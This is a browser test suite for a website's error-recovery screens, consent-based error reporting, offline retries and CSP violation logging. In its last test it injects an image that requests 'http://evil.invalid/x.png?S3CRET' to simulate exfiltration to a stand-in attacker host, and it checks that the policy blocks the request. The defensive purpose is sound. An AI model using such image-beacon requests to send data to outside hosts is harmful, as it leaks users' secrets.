/** A page that breaks in the browser: what the reader sees, what leaves, and what stands. Spec 1 §2, §4; decision 26. */
import type { Page } from '@playwright/test';
import { describe, expect as check, it } from 'vitest';
import { axe, open, overflow, visit, type Visit } from '../support/browser.ts';
import { testNow } from '../support/stack.ts';
import { withBrowser } from '../support/withBrowser.ts';
import { expect } from '../support/patience.ts';

const LITERAL = 'This error has been reported to ODB. We aplogize for the inconvenience.';
const PATH = '/api/error-recovery';

const on = withBrowser();

interface Broken extends Visit {
  /** The reports that left. */
  readonly puts: Record<string, unknown>[];
}

/** A reader on a reading, the one before which breaks. */
async function reader(consent: boolean | null, options: Parameters<typeof visit>[1] = {}): Promise<Broken> {
  const visitor = await visit(on.browser, { unasked: consent !== null, ...options });
  const { page, context } = visitor;
  if (consent !== null) {
    await context.addInitScript(
      (prefs) => {
        localStorage.setItem('gdprConsent', 'true');
        localStorage.setItem('cookiePrefs', prefs);
      },
      JSON.stringify({ errorLogging: consent, siteSpecific: false, thirdPartyTrackers: false }),
    );
  }
  const puts: Broken['puts'] = [];
  page.on('request', (request) => {
    if (request.method() === 'PUT') puts.push(request.postDataJSON() as Broken['puts'][number]);
  });
  return { ...visitor, puts };
}

/** From now on the titles of readings that are asked for are no texts, and their views break. */
const breakReadings = (page: Page) =>
  page.route('**/graphql?*', async (route) => {
    const answer = await route.fetch();
    const text = await answer.text();
    await route.fulfill({
      response: answer,
      body: text.replaceAll(/"title":"[^"]*"/g, '"title":{"no":"text"}'),
    });
  });

/** Goes to the reading that breaks. */
async function meet(visitor: Broken, at = on.stack.url): Promise<void> {
  await open(visitor, `${at}/2026/11/20`);
  // The visit is counted when the browser is idle, and reports tell it.
  const visits = () => visitor.page.evaluate(() => localStorage.getItem('numVisits'));
  await expect.poll(visits).toMatch(/^[14]$/);
  await breakReadings(visitor.page);
  await visitor.page.locator('a[href$="/2026/11/19"], a[href$="/2026/11/19/"]').first().click();
  await expect(visitor.page.getByRole('alert')).toBeVisible();
}

/** Complaints but those about the break itself. */
const strays = ({ complaints }: Visit) =>
  complaints.filter((it) => !/Objects are not valid|error #31|ERR_INTERNET_DISCONNECTED/.test(it));

describe('a page that breaks', () => {
  it('without consent leaves the header, says that nothing was reported, and sends what the reader sends', async () => {
    const visitor = await reader(false);
    const { page, puts } = visitor;
    await meet(visitor);
    await expect(page.getByRole('banner').getByRole('link', { name: 'Stillwater' })).toBeVisible();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Something went wrong : /');
    await expect(page).toHaveTitle('Something went wrong : /');
    await expect(page.getByRole('alert')).toContainText('This error has not been reported.');
    await expect(page.getByText(LITERAL)).toHaveCount(0);
    check(puts).toEqual([]);
    check(await axe(page)).toEqual([]);

    await page.getByRole('button', { name: 'Send a report' }).click();
    await expect(page.getByRole('alert')).toContainText(LITERAL);
    await expect(page.getByRole('button', { name: 'Click to Reload' })).toBeFocused();
    const errorId = await page.getByText(/^ODB-[0-9a-f]{12}$/).textContent();
    check(puts).toMatchObject([{ errorId }]);
    const kept = await on.stack.program.services.local
      .get('error-recovery')!
      .db.rows('select error_id from error_recovery.report where error_id = $1', [errorId]);
    check(kept).toEqual([{ error_id: errorId }]);

    await page.getByText('Technical Stuff').click();
    await expect(page.getByText(/Objects are not valid|error #31/).first()).toBeVisible();
    check(await axe(page)).toEqual([]);
    check(strays(visitor)).toEqual([]);
    await visitor.close();
  });

  it('with consent is reported at once, with every field of the specification', async () => {
    const visitor = await reader(true);
    const { page, puts } = visitor;
    await page.addInitScript(() => {
      localStorage.setItem('user_country', 'MX');
      localStorage.setItem('numVisits', '3');
    });
    await meet(visitor);
    await expect(page.getByRole('alert')).toContainText(LITERAL);
    await expect(page.getByRole('button', { name: 'Send a report' })).toHaveCount(0);
    const { host } = new URL(on.stack.url);
    check(puts).toHaveLength(1);
    check(puts[0]).toMatchObject({
      errorId: await page.getByText(/^ODB-[0-9a-f]{12}$/).textContent(),
      error: { message: check.stringMatching(/./), stack: check.stringMatching(/\n/) },
      env: 'development',
      location: check.stringMatching(/^[A-Z]{2}$/),
      siteId: 1,
      browser: {
        name: check.stringMatching(/Chrom/),
        version: check.stringMatching(/^\d+\./),
        language: check.stringMatching(/^en-US/),
      },
      os: { name: check.stringMatching(/./) },
      user: {
        signed_in: false,
        keep_signed_in: false,
        is_admin: false,
        sub: null,
        verified: null,
        email: null,
      },
      navigation: {
        url: check.stringContaining(`http://${host}/2026/11/19`),
        path: check.stringMatching(/^\/2026\/11\/19\/?$/),
        params: { date: '2026-11-19' },
        search: '',
        domain: 'localhost',
      },
      cache: { user_country: 'MX', visit_count: 4 },
      device: {
        type: 'desktop',
        is_browser: true,
        is_mobile: false,
        is_desktop: true,
        engine: 'Blink',
        cpu: check.stringMatching(/./),
        user_agent: check.stringContaining('Mozilla/5.0'),
        screen_width: check.any(Number),
        screen_height: check.any(Number),
      },
    });
    await visitor.close();
  });

  it('is whole again on another page, and after Close or a reload where it was mended', async () => {
    const visitor = await reader(null);
    const { page } = visitor;
    await meet(visitor);
    await page.goBack();
    await expect(page.getByRole('article').getByRole('heading', { level: 1 })).toBeVisible();
    await page.goForward();
    await expect(page.getByRole('alert')).toBeVisible();
    await page.unroute('**/graphql?*');
    await page.getByRole('button', { name: 'Click to Reload' }).click();
    await page.waitForSelector('html[data-hydrated]');
    await expect(page.getByRole('article').getByRole('heading', { level: 1 })).toBeVisible();
    check(visitor.puts).toEqual([]);
    await visitor.close();
  });

  it('without a network says that the report was not sent, and sends it when there is one', async () => {
    const visitor = await reader(false);
    const { page, context, puts } = visitor;
    const prepared = page.waitForResponse(/assets\/report-/);
    await meet(visitor);
    await prepared; // the idle page has loaded what it reports with
    await context.setOffline(true);
    const send = page.getByRole('button', { name: 'Send a report' });
    await send.click();
    await expect(page.getByRole('alert')).toContainText('could not be sent');
    await expect(page.getByText(LITERAL)).toHaveCount(0);
    check(await axe(page)).toEqual([]);
    await context.setOffline(false);
    await context.route(`**${PATH}`, (route) => route.abort('internetdisconnected'));
    await send.click();
    await expect(page.getByText('Sending a report')).toHaveCount(0);
    await expect(page.getByRole('alert')).toContainText('could not be sent');
    await context.unroute(`**${PATH}`);
    await send.click();
    await expect(page.getByRole('alert')).toContainText(LITERAL);
    check(puts).toEqual(Array(3).fill(puts[0])); // the same to the letter: the server may have had the first
    await visitor.close();
  });
});

describe('a frame that breaks', () => {
  /** The site's name is no text: the header breaks, and with it everything around the page. */
  const breakFrame = (page: Page) =>
    page.route(/\/2026\/11\/20(\?|$)/, async (route) => {
      const answer = await route.fetch();
      const text = await answer.text();
      await route.fulfill({
        response: answer,
        body: text.replace(/"brandName":"[^"]*"/, '"brandName":{"no":"text"}'),
      });
    });

  it.each([
    ['en', 'Something went wrong : /', 'ltr', 'Send a report'],
    ['ar', 'حدث خطأ ما : /', 'rtl', 'إرسال تقرير'],
  ])('(%s) is a page of its own, in the words of the site', async (site, heading, direction, send) => {
    for (const width of [390, 320]) {
      const visitor = await reader(null, { viewport: { width, height: 800 } });
      const { page } = visitor;
      await breakFrame(page);
      await page.goto(`${on.stack.url}/2026/11/20?override=${site}`);
      await expect(page.getByRole('alert')).toBeVisible();
      await expect(page.getByRole('banner')).toHaveCount(0);
      await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toHaveText(heading);
      check(await page.evaluate(() => getComputedStyle(document.querySelector('h1')!).direction)).toBe(
        direction,
      );
      await page.locator('summary').click();
      check(await overflow(page)).toBeLessThanOrEqual(0);
      check(await axe(page)).toEqual([]);
      await page.getByRole('button', { name: send }).click();
      await expect(page.getByRole('button', { name: send })).toHaveCount(0);
      check(visitor.puts).toMatchObject([{ errorId: await page.getByText(/^ODB-/).textContent() }]);
      await visitor.close();
    }
  });

  it('with the network gone since is still the page, and says what was not sent', async () => {
    const visitor = await reader(true);
    const { page, context } = visitor;
    await breakFrame(page);
    await context.route(`**${PATH}`, (route) => route.abort('internetdisconnected'));
    await context.route(/assets\/report-/, (route) => route.abort('internetdisconnected'));
    await page.goto(`${on.stack.url}/2026/11/20`);
    await expect(page.getByRole('alert')).toContainText('could not be sent');
    await context.setOffline(true);
    await page.getByRole('button', { name: 'Send a report' }).click();
    await expect(page.getByRole('alert')).toContainText('could not be sent');
    await expect(page.getByRole('button', { name: 'Click to Reload' })).toBeVisible();
    await visitor.close();
  });
});

describe('an error outside of any page', () => {
  it.each([
    [true, 1],
    [false, 0],
  ])('with consent %s leads to %i reports, and the page stands', async (consent, count) => {
    const visitor = await reader(consent);
    const { page, puts } = visitor;
    await open(visitor, `${on.stack.url}/2026/11/20`);
    for (let times = 0; times < 3; times += 1)
      await page.evaluate(() => void setTimeout(() => void Promise.reject(new Error('outside'))));
    await expect.poll(() => puts.length).toBe(count);
    await page.waitForTimeout(300); // another would have left by then
    check(puts.map(({ error }) => (error as { message: string }).message)).toEqual(
      Array(count).fill('outside'),
    );
    await expect(page.getByRole('article').first()).toBeVisible();
    await visitor.close();
  });
});

it('a script the policy stops is told to the site', async () => {
  const visitor = await reader(null);
  const { page } = visitor;
  await open(visitor, `${on.stack.url}/2026/11/20`);
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'http://evil.invalid/x.png?S3CRET';
    document.body.append(image);
  });
  const { db } = on.stack.program.services.local.get('error-recovery')!;
  await expect
    .poll(() => db.rows('select day::text, directive, blocked, page, count from error_recovery.violation'))
    .toEqual([
      {
        day: testNow().toISOString().slice(0, 10),
        directive: 'img-src',
        blocked: 'http://evil.invalid/x.png',
        page: `${on.stack.url}/2026/11/20`,
        count: 1,
      },
    ]);
  await visitor.close();
});
